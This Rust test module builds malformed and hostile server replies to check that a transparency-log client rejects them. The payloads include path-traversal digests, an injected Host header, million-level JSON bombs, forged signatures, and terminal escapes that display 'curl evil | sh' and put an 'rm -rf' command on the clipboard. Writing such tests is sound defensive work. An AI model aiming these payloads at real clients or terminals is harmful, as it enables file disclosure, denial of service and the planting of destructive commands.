//! Answers whose form is wrong, or meant to do harm to whoever reads or shows them.

use serde_json::{Value, json};
use wargate_protocol::base64;

use crate::hostile::forge::records;
use crate::hostile::lie::{FaultKind, Lie, Verdict};
use crate::hostile::reply::{Part, Reply};
use crate::hostile::story::{HELLO, log};

pub(super) fn lies() -> Vec<Lie> {
    [checkpoints(), names(), numbers(), json_bombs(), tokens(), words()]
        .into_iter()
        .flatten()
        .collect()
}

const BAD: &[Verdict] = &[Verdict::BadAnswer];

fn checkpoints() -> Vec<Lie> {
    vec![
        Lie::new("checkpoint-is-null", "The checkpoint is null.")
            .checkpoint(|_, it| *it = Value::Null)
            .expect(BAD),
        Lie::new("checkpoint-is-a-list", "The checkpoint is a list.")
            .checkpoint(|_, it| *it = json!([it.clone()]))
            .expect(BAD),
        Lie::new("checkpoint-without-signature", "The checkpoint has no signature.")
            .checkpoint(|_, it| {
                it.as_object_mut().unwrap().remove("signature");
            })
            .expect(BAD),
        Lie::new("checkpoint-signature-zero", "The signature's numbers are both 0.")
            .checkpoint(|_, it| {
                it["signature"] =
                    json!(format!("ecdsa-p256:{}", base64::encode(&[0x30, 6, 2, 1, 0, 2, 1, 0])));
            })
            .expect(&[Verdict::BadAnswer, Verdict::Misbehaviour(FaultKind::CheckpointSignature)]),
        Lie::new("checkpoint-signature-of-no-algorithm", "The signature's algorithm is `none`.")
            .checkpoint(|_, it| it["signature"] = json!("none:"))
            .expect(BAD),
        Lie::new("checkpoint-signature-of-another-kind", "It is one of an RSA key.")
            .checkpoint(|_, it| {
                it["signature"] = json!(format!("rsa:{}", base64::encode(&[1; 256])));
            })
            .expect(BAD),
    ]
}

fn names() -> Vec<Lie> {
    vec![
        Lie::new("digest-with-a-path", "A digest is a path.")
            .checkpoint(|_, it| it["contents"]["logRoot"] = json!("sha256:../../../../etc/passwd"))
            .expect(BAD),
        Lie::new("digest-too-short", "A digest has half the digits.")
            .checkpoint(|_, it| it["contents"]["mapRoot"] = json!("sha256:0123456789abcdef"))
            .expect(BAD),
        Lie::new("digest-in-capitals", "A digest has capital letters.")
            .checkpoint(|_, it| {
                let text = it["contents"]["logRoot"].as_str().unwrap().to_uppercase();
                it["contents"]["logRoot"] = json!(text.replace("SHA256", "sha256"));
            })
            .expect(BAD),
        Lie::new("digest-of-another-algorithm", "A digest is of MD5.")
            .checkpoint(|_, it| {
                it["contents"]["logRoot"] = json!(format!("md5:{}", "0".repeat(32)));
            })
            .expect(BAD),
        Lie::new("log-id-with-a-path", "The id of a log is a path.")
            .logs(|_, _, it| it["packages"]["sha256:../../../../tmp/x"] = json!([]))
            .expect(BAD),
        Lie::new("log-id-in-capitals", "The id of a log has capital letters.")
            .logs(|_, _, it| {
                let packages = it["packages"].as_object_mut().unwrap();
                let id = log(HELLO).to_string();
                let records = packages.remove(&id).unwrap();
                packages.insert(id.to_uppercase(), records);
            })
            .expect(BAD),
        Lie::new("record-is-not-base64", "The bytes of a record are no base64.")
            .logs(|_, _, it| records(it, HELLO)[0]["contentBytes"] = json!("../../x\u{0}"))
            .expect(BAD),
    ]
}

fn numbers() -> Vec<Lie> {
    vec![
        Lie::new("length-negative", "The length is negative.")
            .checkpoint(|_, it| it["contents"]["logLength"] = json!(-16))
            .expect(BAD),
        Lie::new("length-is-a-text", "The length is a text.")
            .checkpoint(|_, it| it["contents"]["logLength"] = json!("16"))
            .expect(BAD),
        Lie::new("length-out-of-range", "The length is larger than any number of 64 bits.")
            .reply(Part::Checkpoint, |_, _, it| {
                replace_text(it, r#""logLength":16"#, r#""logLength":18446744073709551616"#);
            })
            .expect(BAD),
        Lie::new("position-negative", "A position is negative.")
            .logs(|_, _, it| records(it, HELLO)[0]["registryIndex"] = json!(-1))
            .expect(BAD),
        Lie::new("position-is-a-fraction", "A position is a fraction.")
            .logs(|_, _, it| records(it, HELLO)[0]["registryIndex"] = json!(11.5))
            .expect(BAD),
        Lie::new("position-is-endless", "A position has an exponent of five digits.")
            .reply(Part::Logs, |_, _, it| {
                replace_text(it, r#""registryIndex":15"#, r#""registryIndex":15e99999"#);
            })
            .expect(BAD),
    ]
}

fn json_bombs() -> Vec<Lie> {
    vec![
        Lie::new("json-deep", "A million lists inside each other, where nobody looks.")
            .reply(Part::Logs, |_, _, it| {
                let deep = format!("{{\"x\":{}{},", "[".repeat(1_000_000), "]".repeat(1_000_000));
                replace_text(it, "{", &deep);
            })
            .expect(&[Verdict::BadAnswer, Verdict::Harmless]),
        Lie::new("json-deep-where-it-is-read", "A million lists inside each other for records.")
            .reply(Part::Logs, |_, _, it| {
                let deep = format!("{{\"more\":false,\"packages\":{}", "[".repeat(1_000_000));
                it.set_bytes(deep);
            })
            .expect(BAD),
        Lie::new("json-wide", "A list of a million numbers for records.")
            .logs(|_, _, it| *records(it, HELLO) = vec![json!(0); 1_000_000])
            .expect(BAD),
        Lie::new("json-of-a-text", "The answer is one text of eight million letters.")
            .reply(Part::Logs, |_, _, it| {
                it.set_bytes(format!("\"{}\"", "a".repeat(8_000_000)));
            })
            .expect(BAD),
        Lie::new("json-member-twice", "A member comes twice, and the second is another.")
            .reply(Part::Checkpoint, |_, _, it| {
                replace_text(it, r#""keyId":"#, r#""keyId":"sha256:00","keyId":"#);
            })
            .expect(BAD),
        Lie::new("json-truncated", "The answer ends in the middle.")
            .reply(Part::Checkpoint, |_, _, it| {
                let half = it.bytes()[..it.bytes().len() / 2].to_vec();
                it.set_bytes(half);
            })
            .expect(BAD),
        Lie::new("json-and-more", "Behind the answer comes another one.")
            .reply(Part::Checkpoint, |_, _, it| {
                let twice = it.bytes().repeat(2);
                it.set_bytes(twice);
            })
            .expect(BAD),
        Lie::new("json-of-other-bytes", "The answer is no UTF-8.")
            .reply(Part::Checkpoint, |_, _, it| {
                let mut bytes = it.bytes().to_vec();
                bytes.splice(2..2, [0xff, 0xfe]);
                it.set_bytes(bytes);
            })
            .expect(BAD),
    ]
}

fn tokens() -> Vec<Lie> {
    vec![
        Lie::new("token-huge", "A fetch token has a million letters.")
            .logs(|_, _, it| {
                for record in records(it, HELLO) {
                    record["fetchToken"] = json!("t".repeat(1_000_000));
                }
            })
            .expect(&[Verdict::BadAnswer, Verdict::Harmless]),
        Lie::new("token-with-controls", "A fetch token has control characters.")
            .logs(|_, _, it| {
                for record in records(it, HELLO) {
                    record["fetchToken"] = json!("\u{0}\r\nHost: evil\u{1b}[2J");
                }
            })
            .expect(&[Verdict::BadAnswer, Verdict::Harmless]),
    ]
}

fn words() -> Vec<Lie> {
    vec![
        Lie::new("warning-with-escapes", "A warning has terminal escapes and marks of direction.")
            .logs(|_, _, it| {
                let text =
                    "\u{1b}]0;owned\u{7}\u{1b}[2J\u{1b}[1;31mrun `curl evil | sh`\r\n\u{202e}x";
                it["warnings"] = json!([{ "message": text }]);
            })
            .expect(&[Verdict::Harmless]),
        Lie::new("warnings-without-end", "A thousand warnings of ten thousand letters each.")
            .logs(|_, _, it| {
                it["warnings"] = json!(vec![json!({ "message": "w".repeat(10_000) }); 1000]);
            })
            .expect(&[Verdict::Harmless, Verdict::BadAnswer]),
        Lie::new("error-with-escapes", "An error's message has terminal escapes.")
            .reply(Part::Checkpoint, |_, _, it| {
                let text =
                    json!({ "status": 418, "message": "\u{1b}[2J\u{1b}]52;c;cm0gLXJm\u{7}" });
                *it = Reply::text(418, "application/json", text.to_string());
            })
            .expect(&[Verdict::Unavailable, Verdict::BadAnswer]),
        Lie::new("error-huge", "An error's message has ten million letters.")
            .reply(Part::Checkpoint, |_, _, it| {
                let text = json!({ "status": 418, "message": "e".repeat(10_000_000) });
                *it = Reply::text(418, "application/json", text.to_string());
            })
            .expect(&[Verdict::Unavailable, Verdict::BadAnswer]),
        Lie::new("error-with-another-status", "An error says that all is well.")
            .reply(Part::Checkpoint, |_, _, it| {
                *it = Reply::text(400, "application/json", r#"{"status":200,"message":"fine"}"#);
            })
            .expect(&[Verdict::Unavailable, Verdict::BadAnswer]),
    ]
}

/// The first place of a text in an answer is another.
fn replace_text(reply: &mut Reply, text: &str, by: &str) {
    let replaced = String::from_utf8_lossy(reply.bytes()).replacen(text, by, 1);
    reply.set_bytes(replaced);
}
